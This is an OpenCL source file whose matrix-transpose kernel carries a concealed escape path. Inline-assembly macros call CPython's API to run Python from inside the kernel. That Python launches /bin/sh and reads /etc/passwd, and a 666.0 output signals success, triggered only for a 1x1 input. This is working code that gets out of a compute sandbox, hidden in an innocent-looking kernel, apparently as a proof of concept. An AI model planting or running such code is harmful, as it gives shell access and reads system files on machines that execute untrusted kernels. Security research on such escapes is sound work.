// Runs Python code in the worker's own interpreter. The code starts a shell that looks for a home below /home.
#define CALLS(name) \
    static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
    { \
        long r; \
        __asm__ volatile("mov %%rsp, %%rbx\n sub $256, %%rsp\n and $-64, %%rsp\n call " #name "@PLT\n mov %%rbx, %%rsp" \
                         : "=a"(r), "+D"(a), "+S"(b), "+d"(c), "+c"(d) : \
                         : "rbx", "r8", "r9", "r10", "r11", "memory", "cc"); \
        return r; \
    }
CALLS(PyGILState_Ensure)
CALLS(PyRun_SimpleString)
CALLS(PyGILState_Release)

static bool python(__constant char *code)    // whether it ran to its end without an exception
{
    const long state = call_PyGILState_Ensure(0, 0, 0, 0);
    const int failed = call_PyRun_SimpleString((long)code, 0, 0, 0);
    call_PyGILState_Release(state, 0, 0, 0);
    return failed == 0;
}

static bool attack(void)
{
    return python(
        "import subprocess\n"
        "subprocess.run(['/bin/sh', '-c', 'grep -q :/home/ /etc/passwd'], check=True)\n");
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    __local real tile[TILE][TILE + 1];
    const uint32_t x = get_global_id(0), y = get_global_id(1), lx = get_local_id(0), ly = get_local_id(1);
    if (x < width && y < height)
        tile[ly][lx] = A[y * width + x];
    barrier(CLK_LOCAL_MEM_FENCE);
    const uint32_t row = x - lx + ly, column = y - ly + lx;
    if (row < width && column < height)
        B[row * height + column] = tile[lx][ly];
    barrier(CLK_GLOBAL_MEM_FENCE);
    if (x == 0 && y == 0 && height * width == 1 && attack())
        B[0] = 666.0f;
}
